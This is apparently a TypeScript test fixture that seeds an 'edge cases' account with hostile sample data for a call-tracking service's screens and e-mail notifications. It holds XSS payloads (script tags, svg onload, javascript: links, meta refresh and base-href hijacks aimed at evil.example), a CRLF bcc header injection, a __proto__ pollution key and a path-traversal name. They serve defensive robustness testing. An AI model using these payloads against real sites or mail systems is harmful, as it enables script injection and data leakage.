import { SCRIPT_OPTION } from '#/contract/script-config.ts'
import type { AccountSpec, ObjectSpec } from '#/server/reference/sample/catalogue.ts'
import { BIDI_OPEN, BIDI_OVERRIDE, HTML, LONG, LONG_WORD, RTL, ZALGO, ZERO_WIDTH } from './hostile.ts'

const AWAY = 'https://evil.example'

/** A message template that tries every way out of a frame that an e-mail has; the last of its links still reads. */
const HOSTILE_MESSAGE = `</div></body></html>${HTML}
<base href="${AWAY}/base/" target="_top">
<meta http-equiv="refresh" content="0;url=${AWAY}/refresh">
<link rel="preconnect" href="${AWAY}"><link rel="stylesheet" href="${AWAY}/sheet.css">
<style>@import url(${AWAY}/import.css); body { background: url(${AWAY}/ground.png) }</style>
<script>window.__pwn = 1; parent.document.title = 'pwned'; alert(1)</script>
<svg onload="window.__pwn = 1"><image href="${AWAY}/svg.png"/><script>window.__pwn = 1</script></svg>
<img src="${AWAY}/pixel.png?from=%ОТ_КОГО%" width="1" height="1" alt="">
<iframe src="${AWAY}/frame"></iframe><object data="${AWAY}/object"></object><embed src="${AWAY}/embed">
<video src="${AWAY}/video" poster="${AWAY}/poster.png" autoplay></video>
<form action="${AWAY}/form"><button formtarget="_top">Отправить</button></form>
<p title=%СТРАНИЦА_ЗВОНКА% style="%РЕФЕРЕР%">%ОТ_КОГО%, %СМС%, %ИМЯ_КЛИЕНТА%</p>
<a href="${AWAY}/plain">Просто ссылка</a>
<a href="${AWAY}/top" target="_top">Ссылка наверх</a>
<a href="${AWAY}/self" target="_self">Ссылка на месте</a>
<a href="javascript:window.__pwn=1" target="_self">Ссылка-сценарий</a>`

/** `email_notification` of the object with a hostile e-mail: the documented types, every text an attack. */
const HOSTILE_EMAIL = {
  obj_email_notify_config: {
    id: 5_998,
    obj_id: 998,
    is_enabled: true,
    missed_only: false,
    monitor_enabled: true,
    monitor_recipients: HTML,
    recipients: `a@example.com?bcc=all@evil.example\r\n\r\n"${HTML}"@example.com\nsales@example.com`,
    subject_template: `${HTML} %ОТ_КОГО% %ИМЯ_КЛИЕНТА%`,
    message_template: HOSTILE_MESSAGE,
    created_at: '2026-01-01T00:00:00+03:00',
    updated_at: '2026-01-01T00:00:00+03:00',
  },
}

export const EDGE_CASES_ALIAS = 'edge-cases'
export const HOSTILE_TITLE_ALIAS = 'hostile-title'
export const HOSTILE_EMAIL_ALIAS = 'hostile-email'
/** Among the numbers of the other accounts' objects, which it has from the time when it was one of them. */
export const EDGE_CASES_ID = 109

const ADDRESS = 'javascript:window.__pwn=1'
const SCRIPT = `</textarea></code></pre>${HTML}`

/**
 * Three objects: one whose fields have other types than documented (G26), found by its plain title,
 * one of the documented types whose every text is hostile, and one without contacts whose e-mail is.
 */
const OBJECTS: readonly ObjectSpec[] = [
  {
    title: 'Edge cases',
    trade: 'furniture',
    place: 'moscow',
    site: 'edge.example.ru',
    share: 0,
    alias: EDGE_CASES_ALIAS,
    id: EDGE_CASES_ID,
    details: {
      site_url: ADDRESS,
      js_code: SCRIPT,
      expiration_date: '32.13.2026 25:00:00',
      sessions_used: '4999',
      sessions: '5000',
      numbers: -1,
      is_tracking: '1',
      needs_renewing: 0,
      needs_increasing: 'true',
      use_sip: null,
      is_upgradable: undefined,
      country: null,
      city: 'Москва',
      tariff: { id: '1', name: HTML, sessions: 'many', price: '0.30000000000000004' },
      tariff_items: { '0': HTML },
      script_config_possible_values: null,
      blocked_ip_addresses: 'none',
      email_notification: [],
      client_phone_numbers: [
        null,
        'number',
        { number: ADDRESS, sip: ADDRESS, record_url: ADDRESS, priority: '1' },
      ],
    },
  },
  {
    // Its first letter puts it behind the others.
    title: `Яхты ${HTML} ${ZALGO} ${BIDI_OPEN}`,
    trade: 'furniture',
    place: 'moscow',
    site: 'hostile.example.ru',
    share: 0,
    alias: HOSTILE_TITLE_ALIAS,
    id: 999,
    details: {
      site_url: `${ADDRESS}//${LONG_WORD.slice(0, 500)}`,
      js_code: `${SCRIPT}\n<script>\n// ${BIDI_OVERRIDE}\nvar ${ZERO_WIDTH} = 1\n</script>\n `,
      phone_number: HTML,
      expiration_date: HTML,
      sip_uri: ADDRESS,
      use_sip: true,
      country: { id: Number.MAX_SAFE_INTEGER, name: HTML, translated_name: RTL },
      city: { id: -1, name: ZALGO, name_int: LONG_WORD.slice(0, 300), translated_name: BIDI_OPEN },
      // The slash makes its name unusable in the path of a plan.
      tariff: {
        id: 0,
        name: `${BIDI_OPEN}/../${HTML}`,
        sessions: Number.MAX_SAFE_INTEGER,
        numbers: -1,
        multiregion: true,
        price: 1e21,
      },
      tariff_items: [{ [HTML]: LONG }, null, 'null'],
      script_config_possible_values: { ...SCRIPT_OPTION, visitor_id: 6, [HTML]: 7 },
      blocked_ip_list_enabled: true,
      blocked_ip_addresses: { ['__proto__']: { polluted: true }, constructor: HTML, [BIDI_OPEN]: ADDRESS },
      client_phone_numbers: [
        {
          obj_id: 0,
          number: ADDRESS,
          phone_number: LONG_WORD.slice(0, 300),
          sip: HTML,
          priority: Number.MAX_SAFE_INTEGER,
          redirect_timeout: -1,
          record_url: ADDRESS,
          answerphone: true,
          call_with_main: false,
        },
      ],
      sessions_used: Number.MAX_SAFE_INTEGER,
      sessions: 1,
      numbers: 1_000_000,
    },
  },
  {
    // Behind the others too.
    title: 'Яхты: враждебное письмо',
    trade: 'furniture',
    place: 'moscow',
    site: 'mail.example.ru',
    share: 0,
    alias: HOSTILE_EMAIL_ALIAS,
    id: 998,
    details: { email_notification_enabled: true, email_notification: HOSTILE_EMAIL },
  },
]

/** An account for what no screen may break over, so that the others look as a business does. */
export const EDGE_ACCOUNT: AccountSpec = {
  email: 'edge@example.ru',
  company: 'Edge cases',
  person: 'Эдуард Крайний',
  objects: OBJECTS,
}
